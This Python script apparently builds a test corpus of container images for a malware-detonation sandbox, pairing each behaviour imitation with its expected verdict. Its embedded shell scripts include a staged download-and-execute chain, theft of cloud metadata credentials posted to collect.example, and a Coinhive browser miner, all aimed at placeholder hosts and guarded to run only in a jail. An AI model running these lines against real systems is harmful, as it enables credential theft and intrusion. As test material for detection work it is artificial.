# SPDX-License-Identifier: Apache-2.0
"""DAVY TEST IMITATION. Images with the shapes of behaviours, and honest ones, as OCI layouts; for davy detonate, and by hand.

    corpus.py FOLDER PROGRAM     builds all of them below FOLDER; PROGRAM is the built shape.c
"""
import hashlib
import io
import json
import pathlib
import shutil
import subprocess
import sys
import tarfile

APPLETS = ('sh ls cat sleep nc id touch wget mkdir cp mv rm chmod echo grep sed awk head tail sort uniq wc tr cut find xargs env test true false date '
           'ps kill dd od sha256sum tar gzip httpd uname hostname whoami mktemp printf expr seq').split()
PASSWD = 'root:x:0:0:root:/root:/bin/sh\nnobody:x:65534:65534:nobody:/:/bin/false\nweb:x:101:101:web:/srv:/bin/false\n'
# Each script ends at once where the jail's mark is not.
GUARD = '#!/bin/sh\n# DAVY TEST IMITATION: harmless, for the jail of davy detonate --mark only\n[ -f /run/davy-jail ] || exit 3\n'


class Image:
    """An OCI layout of one layer."""
    def __init__(self, folder, base=True):
        self.folder, self.files, self.links = pathlib.Path(folder), {}, {}
        self.config = {'Env': ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin'], 'WorkingDir': '/'}
        self.folders = {'tmp', 'run', 'dev', 'proc', 'sys', 'etc', 'root', 'var/tmp', 'srv'}
        if base:
            self.files['bin/busybox'] = (pathlib.Path(shutil.which('busybox')).read_bytes(), 0o755)
            for name in APPLETS:
                self.links[f'bin/{name}'] = 'busybox'
            self.put('etc/passwd', PASSWD)
            self.put('etc/group', 'root:x:0:\nweb:x:101:\nnogroup:x:65534:\n')

    def put(self, path, content, mode=0o644):
        self.files[path] = (content if isinstance(content, bytes) else content.encode(), mode)
        return self

    def copy(self, path):
        """A program of this machine with the libraries that it needs, at their places."""
        path = pathlib.Path(path)
        self.put(str(path.resolve()).lstrip('/'), path.read_bytes(), 0o755)
        if path.resolve() != path:
            self.links[str(path).lstrip('/')] = str(path.resolve())
        listed = subprocess.run(['ldd', path], stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, text=True, check=False).stdout
        for word in listed.split():
            library = pathlib.Path(word)
            if word.startswith('/') and library.is_file() and str(library).lstrip('/') not in self.files:
                self.put(str(library).lstrip('/'), library.read_bytes(), 0o755)
        return self

    def run(self, *words, entrypoint=(), user=None):
        self.config['Cmd'] = list(words)
        if entrypoint:
            self.config['Entrypoint'] = list(entrypoint)
        if user:
            self.config['User'] = user
        return self

    def layer(self):
        out = io.BytesIO()
        with tarfile.open(fileobj=out, mode='w', format=tarfile.PAX_FORMAT) as tar:
            folders = set(self.folders)
            for path in [*self.files, *self.links]:
                folders.update(str(p) for p in pathlib.PurePosixPath(path).parents if str(p) != '.')
            for path in sorted(folders):
                member = tarfile.TarInfo(path)
                member.type, member.mode = tarfile.DIRTYPE, 0o1777 if path in ('tmp', 'var/tmp') else 0o755
                tar.addfile(member)
            for path, (content, mode) in self.files.items():
                member = tarfile.TarInfo(path)
                member.size, member.mode = len(content), mode
                tar.addfile(member, io.BytesIO(content))
            for path, target in self.links.items():
                member = tarfile.TarInfo(path)
                member.type, member.linkname = tarfile.SYMTYPE, target
                tar.addfile(member)
        return out.getvalue()

    def blob(self, content):
        digest = hashlib.sha256(content).hexdigest()
        (self.folder / 'blobs/sha256' / digest).write_bytes(content)
        return {'digest': f'sha256:{digest}', 'size': len(content)}

    def write(self, name):
        """Writes it under a name such as acme/tools:1; the folder."""
        (self.folder / 'blobs/sha256').mkdir(parents=True)
        layer = self.blob(self.layer())
        config = self.blob(json.dumps({
            'architecture': 'amd64', 'os': 'linux', 'created': '2026-01-02T03:04:05Z', 'config': self.config,
            'rootfs': {'type': 'layers', 'diff_ids': [layer['digest']]},
            'history': [{'created': '2026-01-02T03:04:05Z', 'created_by': 'COPY . /'}]}).encode())
        manifest = self.blob(json.dumps({
            'schemaVersion': 2, 'mediaType': 'application/vnd.oci.image.manifest.v1+json',
            'config': {'mediaType': 'application/vnd.oci.image.config.v1+json', **config},
            'layers': [{'mediaType': 'application/vnd.oci.image.layer.v1.tar', **layer}]}).encode())
        (self.folder / 'oci-layout').write_text('{"imageLayoutVersion":"1.0.0"}')
        (self.folder / 'index.json').write_text(json.dumps({
            'schemaVersion': 2, 'manifests': [{'mediaType': 'application/vnd.oci.image.manifest.v1+json', **manifest,
                                               'annotations': {'org.opencontainers.image.ref.name': name}}]}))
        return self.folder


CHAIN = GUARD + '''
for n in 1 2 3; do
    wget -q -O /tmp/stage$n http://stage$n.example/stage$n.sh || exit 1
    echo "echo DAVY TEST IMITATION stage $n" >> /tmp/stage$n
    chmod 755 /tmp/stage$n
    /tmp/stage$n
done
'''
METADATA = GUARD + '''
role=$(wget -q -O- http://169.254.169.254/latest/meta-data/iam/security-credentials/)
wget -q -O /tmp/keys "http://169.254.169.254/latest/meta-data/iam/security-credentials/$role"
wget -q -O- --post-file=/tmp/keys http://collect.example/in
'''
TARGETS_TLS = GUARD + '''
curl -s -o /tmp/list https://lists.example/targets.txt || exit 1
for n in 1 2 3 4 5 6; do
    sed 's/^/url = /' /tmp/list | curl -s -K - > /dev/null || exit 1
done
echo asked
'''
LOOKER = GUARD + '''
cat /proc/uptime /proc/cpuinfo /proc/meminfo /sys/class/dmi/id/product_name /sys/class/net/eth0/address > /dev/null
sleep 1
'''
PAGE = '''<!doctype html><title>DAVY TEST IMITATION</title><script src="https://coinhive.com/lib/coinhive.min.js"></script>
<script>var miner = new CoinHive.Anonymous('DAVY-TEST-IMITATION'); miner.start();</script>
'''
WEB = '#!/bin/sh\nexec httpd -f -p 8080 -h /srv\n'
BUILD = '''#!/bin/sh
mkdir -p /tmp/build/src && cd /tmp/build
for n in 1 2 3 4 5; do echo "int f$n(void) { return $n; }" > src/f$n.c; done
tar cf - src | gzip > src.tar.gz
sha256sum src/*.c src.tar.gz > sums
'''


def samples(program):
    """
    Name, image, how many seconds it may take, and which verdicts are right. What needs programs that are not here is left out. Most end by
    themselves after some seconds, on a busy machine later; servers do not.
    """
    enough, server = 100, 4
    shape = pathlib.Path(program).read_bytes()

    def shaped(folder, *words):
        return Image(folder).put('opt/app/server', shape, 0o755).run(*words, entrypoint=['/opt/app/server'])

    def scripted(folder, script, *words):
        return Image(folder).put('opt/start.sh', script, 0o755).run(*(words or ('/opt/start.sh',)))

    bad, odd, good = ('malicious',), ('malicious', 'unwanted'), ('clean',)
    yield 'miner', lambda f: shaped(f, 'miner', 'pool.example', '3333').write('acme/worker:1'), enough, bad
    yield 'target-list', lambda f: shaped(f, 'targets', 'lists.example').write('acme/client:1'), enough, bad
    curl = shutil.which('curl')
    if curl:
        yield 'target-list-tls', lambda f: scripted(f, TARGETS_TLS).copy(curl).put(
            'etc/ssl/certs/ca-certificates.crt', '').write('acme/fetcher:1'), enough, bad
    yield 'chain', lambda f: scripted(f, CHAIN).write('acme/setup:1'), enough, odd
    yield 'metadata', lambda f: scripted(f, METADATA).write('acme/report:1'), enough, bad
    yield 'disk', lambda f: shaped(f, 'disk', '/dev/sdz').write('acme/clean:1'), enough, bad
    yield 'rewrite', lambda f: shaped(f, 'rewrite', '/srv/files').write('acme/backup:1'), enough, bad
    yield 'killer', lambda f: shaped(f, 'kill').write('acme/tuner:1'), enough, ('suspicious',)
    yield 'web-miner', lambda f: scripted(f, WEB).put('srv/index.html', PAGE).write('acme/site:1'), server, odd
    yield 'time-burner', lambda f: shaped(f, 'burn', 'pool.example', '443').write('acme/loader:1'), enough, bad
    yield 'official-name', lambda f: scripted(f, LOOKER).write('acme/ngnix:1'), enough, ('suspicious', 'unwanted')
    yield 'web', lambda f: scripted(f, WEB).put('srv/index.html', '<!doctype html><title>Shop</title><p>Welcome\n').write('acme/shop:1.2'), server, good
    yield 'build', lambda f: scripted(f, BUILD).write('acme/build:7'), enough, good
    yield 'minbase', lambda f: Image(f).put('etc/os-release', 'ID=debian\nVERSION_ID="12"\n').run('/bin/sh', '-c', 'ls / > /tmp/list; sleep 2').write(
        'acme/base:12'), enough, good
    redis = shutil.which('redis-server')
    if redis:
        yield 'database', lambda f: Image(f).copy(redis).run(redis, '--save', '', '--dir', '/tmp', user='web').write('acme/cache:7'), server, good


def main():
    folder, program = pathlib.Path(sys.argv[1]), sys.argv[2]
    for name, build, _, _ in samples(program):
        print(build(folder / name))


if __name__ == '__main__':
    main()
